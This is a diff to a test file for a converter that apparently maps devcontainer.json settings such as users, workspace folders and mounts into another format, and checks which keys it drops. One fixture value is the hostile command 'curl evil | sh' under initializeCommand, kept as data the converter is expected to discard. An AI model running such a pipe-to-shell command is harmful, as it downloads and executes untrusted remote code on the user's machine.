@@ -111,6 +111,38 @@ describe('a devcontainer.json', () => {
       },
     ],
     [
+      'the user that tools run as, by name',
+      { remoteUser: 'vscode', containerUser: 'vscode' },
+      { user: 'vscode' },
+    ],
+    [
+      'the user of the container where tools have none of their own',
+      { containerUser: 'node' },
+      { user: 'node' },
+    ],
+    [
+      'the place where the project is seen, once more for each that is not its usual one',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: devcontainers have variables of this form.
+      { workspaceFolder: '/workspaces/${localWorkspaceFolderBasename}/' },
+      { mounts: [{ source: '.', target: '/workspaces/shop', mode: 'rw' }] },
+    ],
+    [
+      'the place of a mount of the project',
+      {
+        // biome-ignore lint/suspicious/noTemplateCurlyInString: devcontainers have variables of this form.
+        workspaceMount: 'source=${localWorkspaceFolder},target=/app,type=bind,consistency=cached',
+        workspaceFolder: '/app',
+        mounts: ['type=bind,source=/srv,target=/srv'],
+      },
+      {
+        mounts: [
+          { source: '.', target: '/app', mode: 'rw' },
+          { source: '/srv', target: '/srv', mode: 'rw' },
+        ],
+      },
+    ],
+    ['the usual place as what it is', { workspaceFolder: '/workspace/' }, {}],
+    [
       'extensions, without those that are taken away and without versions',
       {
         extensions: ['old.place'],
@@ -137,8 +169,9 @@ describe('a devcontainer.json', () => {
       service: 'app',
       runArgs: ['--cap-add=SYS_PTRACE'],
       privileged: true,
-      remoteUser: 'vscode',
-      workspaceFolder: '/workspaces/shop',
+      remoteUser: 'root',
+      containerUser: 'vscode',
+      workspaceFolder: '/usr/src/app',
       initializeCommand: 'curl evil | sh',
       postAttachCommand: 'true',
       hostRequirements: { cpus: 8 },
@@ -152,7 +185,15 @@ describe('a devcontainer.json', () => {
     assert.deepEqual(
       left(said).sort(),
       [
-        ...['features', 'dockerComposeFile', 'service', 'runArgs', 'privileged', 'remoteUser'],
+        ...[
+          'features',
+          'dockerComposeFile',
+          'service',
+          'runArgs',
+          'privileged',
+          'remoteUser',
+          'containerUser',
+        ],
         ...['workspaceFolder', 'initializeCommand', 'postAttachCommand', 'hostRequirements'],
         ...['build.cacheFrom', 'customizations.vscode.settings', 'forwardPorts.0', 'mounts.0', 'mounts.1'],
         ...['postStartCommand', 'madeUp'],
